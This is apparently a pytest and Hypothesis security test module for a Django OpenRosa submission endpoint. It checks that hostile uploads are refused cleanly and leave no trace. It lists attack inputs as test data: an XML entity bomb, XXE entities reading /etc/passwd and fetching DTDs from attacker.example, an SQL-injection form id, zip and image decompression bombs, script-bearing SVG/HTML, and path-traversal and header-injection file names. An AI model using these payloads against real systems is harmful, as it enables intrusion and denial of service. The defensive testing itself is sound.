"""What no phone sends: it is refused in clear words, leaves nothing behind, and never breaks anything.

Each example is one request. Whatever it is, the answer is a receipt or a refusal of four hundred and something in the
envelope of OpenRosa; after a refusal the tables and the folder of files are as they were.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager

import pytest
from django.core.cache import cache
from django.http import HttpResponse
from django.test import Client
from django.utils.http import parse_header_parameters
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from palermo.interviews.models import Attachment, Interview, Submission, WaitingFile
from tests.individuals.pictures.samples import png
from tests.interviews.openrosa.phones import FORM_VERSION, LINE, Phone, body, filled, part, pdf
from tests.interviews.openrosa.test_submission import kept_files
from tests.undoing import undone

pytestmark = pytest.mark.usefixtures("handover")
few = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
    derandomize=True,
)
ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<!DOCTYPE d [<!ENTITY a0 "boom">{ENTITIES}]>'


@contextmanager
def one_request(client: Client) -> Iterator[Callable[[HttpResponse], HttpResponse]]:
    """Takes everything back afterwards; gives what checks an answer."""
    client.raise_request_exception = False
    files = kept_files()
    with undone():
        cache.clear()
        before = rows()

        def check(response: HttpResponse) -> HttpResponse:
            assert response.status_code in {200, 201, 202, 204} or 400 <= response.status_code < 500
            if response.status_code >= 400:
                assert (
                    b"<OpenRosaResponse" in response.content or response.request["REQUEST_METHOD"] == "HEAD"
                )  # type: ignore[attr-defined]
                assert rows() == before
                assert kept_files() == files
            return response

        yield check
    for path in kept_files() - files:
        path.unlink()


def rows() -> tuple[int, ...]:
    return (
        Interview.unscoped.count(),
        Submission.unscoped.count(),
        Attachment.unscoped.count(),
        WaitingFile.objects.count(),
    )


#: Filled forms that must be refused, whatever else is in them.
REFUSED: Mapping[str, bytes] = {
    "entity bomb": BOMB.encode() + filled(words="&a9;"),
    "external entity": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + filled(words="&x;"),
    "external document type": b'<!DOCTYPE d SYSTEM "http://attacker.example/x.dtd">' + filled(),
    "parameter entity": b'<!DOCTYPE d [<!ENTITY % x SYSTEM "http://attacker.example/x">%x;]>' + filled(),
    "undeclared entity": filled(words="&nothing;"),
    "document type after a comment": b"<!-- x --><!DOCTYPE d>" + filled(),
    "huge": filled(words="x" * 2_100_000),
    "deep": filled(words="<a>" * 500 + "</a>" * 500),
    "many elements": filled(words="<a/>" * 60_000),
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>' + filled(words="+ADw-"),
    "latin 1": b'<?xml version="1.0" encoding="ISO-8859-1"?>' + filled(words="caf\xe9"),
    "an encoding that is none": b'<?xml version="1.0" encoding="klingon"?>' + filled(),
    "no UTF-8": filled().replace(b"a coat", b"\xff\xfe\xfa"),
    "zero bytes": filled().replace(b"a coat", b"\x00\x00"),
    "control characters": filled().replace(b"a coat", b"\x01\x1f"),
    "a number that is no character": filled(words="&#0;&#xFFFFFFFF;"),
    "two roots": filled() + filled(2),
    "cut": filled()[:-20],
    "nothing but a name": b"<data/>",
    "JSON": b'{"data": {}}',
    "words": "Здравствуйте".encode(),
    "a zip": b"PK\x03\x04" + bytes(100),
    "packed": zlib.compress(filled()),
    "another form": filled(form_id="screening' OR 1=1 --"),
    "an older version": filled(version="2020010100"),
    "a newer version": filled(version=f"{FORM_VERSION}1"),
    "a long id": filled(instance_id="uuid:" + "x" * 5000),
    "no id": filled(instance_id=""),
    "another root": filled().replace(b"<data ", b"<other ").replace(b"</data>", b"</other>"),
    "another namespace": filled().replace(b"<data ", b'<data xmlns="http://attacker.example/" '),
}  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("xml", REFUSED.values(), ids=list(REFUSED))
def test_forms_that_are_refused(client: Client, phone: Phone, xml: bytes) -> None:
    with one_request(client) as check:
        answer = check(phone.send(client, xml))
        assert answer.status_code >= 400
        # Nothing that was sent is repeated.
        assert b"passwd" not in answer.content
        assert b"boom" not in answer.content


def workbook(content: int) -> bytes:
    """A zip that grows a thousandfold."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", b"<Types/>")
        packed.writestr("xl/workbook.xml", bytes(content))
    return target.getvalue()


def picture_bomb() -> bytes:
    """A picture of a few bytes that says it has ten milliards of pixels."""
    return png(width=100_000, height=100_000)


FILES: Mapping[str, bytes] = {
    "zip bomb": workbook(50_000_000),
    "picture bomb": picture_bomb(),
    "a program": b"\x7fELF" + bytes(200),
    "a Windows program": b"MZ" + bytes(200),
    "a page": b"<html><script>alert(1)</script></html>",
    "a drawing that runs": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "half a PDF": pdf()[:100],
    "half a picture": png()[:30],
    "nothing": b"",
}


@pytest.mark.django_db
@pytest.mark.parametrize("content", FILES.values(), ids=list(FILES))
def test_files_that_are_refused(client: Client, phone: Phone, content: bytes) -> None:
    with one_request(client) as check:
        assert check(phone.send(client, filled(paper="a.pdf"), {"a.pdf": content})).status_code in {413, 422}


NAMES = [
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "a\x00.pdf", "a\r\nSet-Cookie: x", ".", "..", "con", "a" * 5000,
    "\u202efdp.exe", "%2e%2e%2f", "a.pdf;b", '"', "жар.pdf", "*isIncomplete*", "xml_submission_file", "<b>", " ",
]  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("name", NAMES)
def test_odd_names_of_files(client: Client, phone: Phone, name: str) -> None:
    """A file that no answer names is nobody's; one with such a name is refused or kept, never written there."""
    shown = name.encode("utf-8", "surrogatepass")
    odd = b"".join(
        (f"--{LINE}\r\n".encode(), b'Content-Disposition: form-data; name="', shown, b'"; filename="', shown,
         b'"\r\nContent-Type: application/pdf\r\n\r\n', pdf(), b"\r\n")
    )  # fmt: skip
    with one_request(client) as check:
        check(phone.post(client, [odd, *body(filled(), {})]))


@few
@given(cut=st.integers(0, 900), junk=st.binary(max_size=40))
def test_bodies_that_end_early_or_go_on_wrongly(client: Client, phone: Phone, cut: int, junk: bytes) -> None:
    whole = b"".join(body(filled(paper="a.pdf"), {"a.pdf": pdf()}))
    with one_request(client) as check:
        check(phone.post(client, [whole[:cut], junk, whole[cut + len(junk) :]]))


@few
@given(
    place=st.integers(0, 10_000),
    new=st.one_of(
        st.binary(min_size=1, max_size=6),
        st.sampled_from([b"<", b"&", b"]]>", b"<!--", b"<![CDATA[", b"\xff"]),
    ),
)
def test_a_filled_form_with_other_bytes_in_it(client: Client, phone: Phone, place: int, new: bytes) -> None:
    xml = filled()
    place %= len(xml)
    with one_request(client) as check:
        check(phone.send(client, xml[:place] + new + xml[place + len(new) :]))


@few
@given(
    fields=st.lists(
        st.tuples(
            st.text(st.characters(blacklist_characters='\r\n"', blacklist_categories=["Cs"]), max_size=30),
            st.sampled_from(["", "x.txt", "submission.xml"]),
            st.binary(max_size=60),
        ),
        max_size=5,
    ),
    kind=st.sampled_from(
        [
            "text/xml",
            "text/xml; charset=klingon",
            "x",
            "",
            "a/b; c*=utf-9'x'%ff",
            "text/plain; charset=utf-16",
        ]
    ),
    more=st.booleans(),
)
def test_parts_that_nobody_asked_for(
    client: Client, phone: Phone, fields: list[tuple[str, str, bytes]], kind: str, more: bool
) -> None:
    parts = [part(name, content, file, kind) for name, file, content in fields]
    with one_request(client) as check:
        check(phone.post(client, [*parts, *body(filled(), {}, more=more)]))


@few
@given(
    disposition=st.one_of(
        st.sampled_from(
            [
                "form-data", "form-data; name", "form-data; name=", 'form-data; name="', "attachment; name=x",
                "form-data; name*=utf-8''x", "form-data; name*=klingon'x'%ff; filename*=klingon'x'%ff",
                'form-data; name="xml_submission_file"; filename*=utf-8\'\'%ff%fe',
                'form-data; name="xml_submission_file"; filename="&#x110000;&lt;"', ";;;;", "",
            ]
        ),
        st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=60),
    ),
    encoding=st.sampled_from(["", "Content-Transfer-Encoding: base64\r\n", "Content-Transfer-Encoding: x\r\n",
                              "Content-Length: -1\r\n", "X" * 2000 + ": y\r\n"]),
)  # fmt: skip
def test_heads_of_parts(client: Client, phone: Phone, disposition: str, encoding: str) -> None:
    odd = f"--{LINE}\r\nContent-Disposition: {disposition}\r\n{encoding}\r\nabc\r\n".encode()
    with one_request(client) as check:
        check(phone.post(client, [odd, *body(filled(), {})]))


def is_readable(content_type: str) -> bool:
    try:
        parse_header_parameters(content_type)
    except ValueError:
        return False
    return True


@few
@given(
    content_type=st.one_of(
        st.sampled_from(
            [
                "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=" + "x" * 300,
                f"multipart/form-data; boundary={LINE}; charset=klingon",
                f"multipart/form-data; boundary*=utf-8''{LINE}",
                "multipart/form-data; boundary*=klingon'x'%ff", f"multipart/form-data; boundary={LINE}; charset=utf-16",
                "multipart/form-data; boundary=\u00e4", "multipart/form-data; boundary=a b", "multipart/", "/", ";",
            ]
        ),
        st.text(st.characters(min_codepoint=32, max_codepoint=255), max_size=60),
    )
)  # fmt: skip
@example(content_type=f"MULTIPART/FORM-DATA; BOUNDARY={LINE}")
def test_kinds_of_content(client: Client, phone: Phone, content_type: str) -> None:
    # What Django itself cannot read never comes so far (tests/config/test_wsgi).
    assume(content_type.strip() and is_readable(content_type))
    with one_request(client) as check:
        check(phone.post(client, body(filled(), {}), content_type=content_type))


@few
@given(
    method=st.sampled_from(["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "get", "X-Y"]),
    address=st.one_of(
        st.sampled_from(["formList", "submission", "forms/x.xml", "forms/x/manifest", "forms/x/media/y", "formlist"]),
        st.text(st.characters(blacklist_categories=["Cs", "Cc"], blacklist_characters="?#%"), max_size=40),
    ),
    headers=st.dictionaries(
        st.sampled_from(
            ["x-openrosa-version", "accept-language", "accept", "accept-encoding", "date", "cookie", "range",
             "if-modified-since", "if-none-match", "x-http-method-override", "transfer-encoding", "referer",
             "user-agent", "expect", "content-encoding", "x-forwarded-for", "connection"]
        ),
        st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=60),
        max_size=4,
    ),
    by_address=st.booleans(),
)  # fmt: skip
def test_methods_addresses_and_headers(
    client: Client, phone: Phone, method: str, address: str, headers: dict[str, str], by_address: bool
) -> None:
    way = f"/openrosa/key/{phone.secret}/" if by_address else "/openrosa/"
    shown = {} if by_address else {"authorization": phone.basic}
    client.raise_request_exception = False
    with undone():
        cache.clear()
        response = client.generic(method, way + address, headers={**headers, **shown})
    # What is no address here gets the page of all that is not there.
    assert response.status_code < 500
    assert phone.secret not in response.content.decode(errors="replace") or address == "formList"


@few
@given(
    token=st.text(
        st.characters(blacklist_categories=["Cs"], blacklist_characters="/?#"), min_size=1, max_size=200
    )
)
def test_secrets_in_the_address(client: Client, phone: Phone, token: str) -> None:
    from urllib.parse import quote

    with one_request(client):
        response = client.get(f"/openrosa/key/{quote(token, safe='')}/formList")
        assert response.status_code in {400, 401, 404}


@pytest.mark.django_db
def test_replayed_by_another_phone_it_is_once(client: Client, phone: Phone, worker: object) -> None:
    from tests.interviews.openrosa.phones import phone_of

    other = phone_of(worker)  # type: ignore[arg-type]
    assert phone.send(client, filled()).status_code == 201
    assert other.send(client, filled()).status_code == 202
    assert rows()[:2] == (1, 1)


@pytest.mark.django_db
def test_unknown_fields_are_kept_and_remarked(client: Client, phone: Phone) -> None:
    """What a form does not know is no reason to lose what it knows: somebody looks at it."""
    xml = filled().replace(b"<how_many>", b"<extra>canary</extra><how_many>")
    with one_request(client) as check:
        assert check(phone.send(client, xml)).status_code == 201
        assert Interview.unscoped.get().has_remarks
